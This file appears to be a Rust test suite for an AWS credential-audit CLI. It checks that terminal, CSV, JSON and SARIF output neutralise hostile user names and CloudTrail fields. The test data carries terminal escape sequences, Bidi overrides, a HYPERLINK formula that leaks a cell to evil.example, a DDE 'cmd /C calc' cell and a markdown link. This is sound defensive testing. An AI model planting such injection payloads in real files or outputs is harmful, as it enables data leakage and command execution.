//! Output that an attacker writes into, through the real binary, with files only (no AWS):
//! a credential report whose user names carry ANSI escape sequences, Bidi overrides and
//! spreadsheet formulas, a CloudTrail file whose fields carry the same, and a report file whose
//! bad date quotes an escape sequence into the error message.
//!
//! Each medium must neutralise what it interprets: the terminal tables and standard error show
//! control and Bidi characters escaped (`\u{1b}`), CSV cells never start a formula, SARIF
//! messages carry no link, and JSON keeps every value exact.

mod support;

use serde_json::Value;
use std::path::PathBuf;
use std::process::Output;
use support::cli::{keywarden, text};
use support::scratch_file;

const HEADER: &str = "user,arn,user_creation_time,password_enabled,password_last_used,password_last_changed,password_next_rotation,mfa_active,access_key_1_active,access_key_1_last_rotated,access_key_1_last_used_date,access_key_1_last_used_region,access_key_1_last_used_service,access_key_2_active,access_key_2_last_rotated,access_key_2_last_used_date,access_key_2_last_used_region,access_key_2_last_used_service,cert_1_active,cert_1_last_rotated,cert_2_active,cert_2_last_rotated";
const ROOT_CLEAN: &str = "<root_account>,arn:aws:iam::123456789012:root,2020-01-01T00:00:00+00:00,not_supported,2024-05-01T00:00:00+00:00,not_supported,not_supported,true,false,N/A,N/A,N/A,N/A,false,N/A,N/A,N/A,N/A,false,N/A,false,N/A";
const NOW: &str = "2024-06-01T00:00:00Z";

/// Recolours the terminal, then reverses the rest of the line (`evil` + RLO + `exe.doc`
/// displays as `evilcod.exe`).
const ANSI_USER: &str = "ev\u{1b}[31mil\u{202e}cod.exe";
/// A cell a spreadsheet runs: a link that leaks the sheet, or a DDE call.
const HYPERLINK_USER: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
const SUM_USER: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
/// A link a SARIF viewer would render.
const LINK_USER: &str = "[click](https://evil.example)";

/// A user whose key was created 2024-01-01 (not rotated for 152 days at NOW: KEY002 fails).
fn user_row(name: &str) -> String {
    let csv_field = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
    format!(
        "{},{},2024-01-01T00:00:00+00:00,false,N/A,N/A,N/A,false,true,2024-01-01T00:00:00+00:00,2024-05-30T00:00:00+00:00,us-east-1,s3,false,N/A,N/A,N/A,N/A,false,N/A,false,N/A",
        csv_field(name),
        csv_field(&format!("arn:aws:iam::123456789012:user/{name}")),
    )
}

/// The report, in a file of its own per test (tests run in parallel).
fn hostile_report(test: &str) -> PathBuf {
    let rows: Vec<String> = [ANSI_USER, HYPERLINK_USER, SUM_USER, LINK_USER]
        .iter()
        .map(|u| user_row(u))
        .collect();
    scratch_file(
        &format!("hostile-report-{test}.csv"),
        &format!("{HEADER}\n{ROOT_CLEAN}\n{}\n", rows.join("\n")),
    )
}

/// What a terminal acts on or hides: C0 and C1 controls (line feeds between lines excepted),
/// DEL, and the Bidi and zero-width characters, listed here independently of the code.
fn raw_terminal_characters(output: &str) -> Vec<char> {
    const BIDI: [char; 12] = [
        '\u{061C}', '\u{200B}', '\u{200E}', '\u{200F}', '\u{202A}', '\u{202B}', '\u{202C}',
        '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}', '\u{2068}',
    ];
    output
        .chars()
        .filter(|&c| (c.is_control() && c != '\n') || BIDI.contains(&c) || c == '\u{2069}')
        .collect()
}

fn assert_terminal_safe(what: &str, out: &Output) {
    for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let shown = text(bytes);
        let raw = raw_terminal_characters(&shown);
        assert!(
            raw.is_empty(),
            "{what}: {stream} lets {raw:?} reach the terminal:\n{shown}"
        );
    }
}

#[test]
fn audit_table_shows_escape_sequences_and_bidi_overrides_visibly() {
    let report = hostile_report("audit_table_shows_escape_sequences_and_bidi_overrides_visibly");
    let out = keywarden(&[
        "audit",
        "--report",
        report.to_str().unwrap(),
        "--now",
        NOW,
        // What a report file cannot answer, so the exit status is the findings' (1).
        "--ignore",
        "PWD003,TRAIL001",
        "--format",
        "table",
    ]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    assert_terminal_safe("audit --format table", &out);
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("ev\\u{1b}[31mil\\u{202e}cod.exe"),
        "the hostile name is shown, escaped:\n{stdout}"
    );
}

#[test]
fn audit_csv_cells_never_start_a_formula() {
    let report = hostile_report("audit_csv_cells_never_start_a_formula");
    let out = keywarden(&[
        "audit",
        "--report",
        report.to_str().unwrap(),
        "--now",
        NOW,
        // What a report file cannot answer, so the exit status is the findings' (1).
        "--ignore",
        "PWD003,TRAIL001",
        "--format",
        "csv",
    ]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(out.stdout.as_slice())
        .records()
        .map(|r| r.expect("a CSV row"))
        .collect();
    for cell in rows.iter().flat_map(|r| r.iter()) {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell starts a formula: {cell:?}"
        );
    }
    let users: Vec<String> = rows.iter().map(|r| r[5].to_owned()).collect();
    // The formula cells are prefixed with `'` (a spreadsheet shows them as text), the others
    // are exact: a CSV consumer gets the value back by dropping one leading `'`.
    assert!(users.contains(&format!("'{HYPERLINK_USER}")), "{users:?}");
    assert!(users.contains(&format!("'{SUM_USER}")), "{users:?}");
    assert!(users.contains(&ANSI_USER.to_owned()), "{users:?}");
    assert!(
        !users.iter().any(|u| u.starts_with(['=', '@'])),
        "{users:?}"
    );
}

#[test]
fn audit_json_and_sarif_keep_what_their_medium_allows() {
    let report = hostile_report("audit_json_and_sarif_keep_what_their_medium_allows");
    let run = |format: &str| {
        let out = keywarden(&[
            "audit",
            "--report",
            report.to_str().unwrap(),
            "--now",
            NOW,
            "--ignore",
            "PWD003,TRAIL001",
            "--format",
            format,
        ]);
        assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
        serde_json::from_slice::<Value>(&out.stdout).expect("JSON")
    };
    // JSON escaping is the medium's own: a consumer gets the exact values.
    let json = run("json");
    let users: Vec<&str> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["user"].as_str())
        .collect();
    for hostile in [ANSI_USER, HYPERLINK_USER, SUM_USER, LINK_USER] {
        assert!(users.contains(&hostile), "{hostile:?} exact in {users:?}");
    }
    // SARIF renders `[text](target)` in a message as a link: the brackets are escaped.
    let sarif = run("sarif");
    let messages: Vec<&str> = sarif["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["message"]["text"].as_str().unwrap())
        .collect();
    assert!(
        messages
            .iter()
            .any(|m| m.starts_with("\\[click\\](https://evil.example) ")),
        "{messages:#?}"
    );
    assert!(
        !messages.iter().any(|m| m.contains("[click](")),
        "{messages:#?}"
    );
}

#[test]
fn stderr_quoting_a_bad_date_shows_the_escape_sequence_visibly() {
    // A report whose date cell clears the screen and sets the window title.
    let row = user_row("bot").replace(
        "2024-05-30T00:00:00+00:00",
        "2024-05-30\u{1b}[2J\u{1b}]0;pwned\u{7}\u{202e}",
    );
    let report = scratch_file(
        "hostile-date.csv",
        &format!("{HEADER}\n{ROOT_CLEAN}\n{row}\n"),
    );
    let out = keywarden(&["audit", "--report", report.to_str().unwrap(), "--now", NOW]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    assert_terminal_safe("audit with a bad date", &out);
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("invalid date `2024-05-30\\u{1b}[2J\\u{1b}]0;pwned\\u{7}\\u{202e}`"),
        "{stderr}"
    );
}

/// One CloudTrail record per line: the key `AKIAHOSTILE000000001` signs a call whose event
/// name, source IP and user agent carry escape sequences and Bidi overrides, then someone whose
/// ARN does the same deletes it.
fn hostile_trail() -> PathBuf {
    let used = serde_json::json!({
        "eventVersion": "1.08",
        "userIdentity": {"type": "IAMUser", "principalId": "AIDAHOSTILE",
            "arn": "arn:aws:iam::123456789012:user/mallory",
            "accountId": "123456789012", "accessKeyId": "AKIAHOSTILE000000001",
            "userName": "mallory\u{1b}]0;owned\u{7}"},
        "eventTime": "2024-05-01T10:00:00Z",
        "eventSource": "s3.amazonaws.com",
        "eventName": "ListBuckets\u{1b}[8m",
        "awsRegion": "us-east-1",
        "sourceIPAddress": "10.0.0.1\u{202e}9.9.9.9",
        "userAgent": "curl\u{1b}[2J",
        "eventID": "hostile-use-1",
        "eventType": "AwsApiCall",
        "recipientAccountId": "123456789012"
    });
    let deleted = serde_json::json!({
        "eventVersion": "1.08",
        "userIdentity": {"type": "IAMUser", "principalId": "AIDAADMIN",
            "arn": "arn:aws:iam::123456789012:user/admin\u{1b}[1A\u{2066}",
            "accountId": "123456789012", "accessKeyId": "AKIAADMIN00000000001",
            "userName": "admin"},
        "eventTime": "2024-05-02T10:00:00Z",
        "eventSource": "iam.amazonaws.com",
        "eventName": "DeleteAccessKey",
        "awsRegion": "us-east-1",
        "sourceIPAddress": "192.0.2.1\u{1b}[31m",
        "userAgent": "console",
        "requestParameters": {"userName": "mallory", "accessKeyId": "AKIAHOSTILE000000001"},
        "eventID": "hostile-delete-1",
        "eventType": "AwsApiCall",
        "recipientAccountId": "123456789012"
    });
    scratch_file("hostile-trail.jsonl", &format!("{used}\n{deleted}\n"))
}

#[test]
fn key_timeline_shows_hostile_cloudtrail_fields_escaped() {
    let trail = hostile_trail();
    let out = keywarden(&["key", "AKIAHOSTILE000000001", trail.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_terminal_safe("key", &out);
    let stdout = text(&out.stdout);
    for shown in [
        "ListBuckets\\u{1b}[8m",
        "10.0.0.1\\u{202e}9.9.9.9",
        "user/admin\\u{1b}[1A\\u{2066}",
        "192.0.2.1\\u{1b}[31m",
    ] {
        assert!(stdout.contains(shown), "{shown} in:\n{stdout}");
    }
    // The JSON timeline has the exact values.
    let out = keywarden(&[
        "key",
        "AKIAHOSTILE000000001",
        trail.to_str().unwrap(),
        "--format",
        "json",
    ]);
    let doc: Value = serde_json::from_slice(&out.stdout).expect("JSON");
    assert_eq!(doc["used"]["first"]["event_name"], "ListBuckets\u{1b}[8m");
}

#[test]
fn plan_table_from_a_hostile_audit_document_shows_names_escaped() {
    let report = hostile_report("plan_table_from_a_hostile_audit_document_shows_names_escaped");
    let audit = keywarden(&[
        "audit",
        "--report",
        report.to_str().unwrap(),
        "--now",
        NOW,
        // What a report file cannot answer, so the exit status is the findings' (1).
        "--ignore",
        "PWD003,TRAIL001",
        "--format",
        "json",
    ]);
    assert_eq!(audit.status.code(), Some(1), "{}", text(&audit.stderr));
    let document = scratch_file("hostile-audit.json", &text(&audit.stdout));
    let state = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("escaping-cli/plan-state");
    let out = keywarden(&[
        "plan",
        "--from",
        document.to_str().unwrap(),
        "--state-dir",
        state.to_str().unwrap(),
        "--now",
        NOW,
        "--format",
        "table",
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_terminal_safe("plan --format table", &out);
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("ev\\u{1b}[31mil\\u{202e}cod.exe"),
        "the hostile name is shown, escaped:\n{stdout}"
    );
}
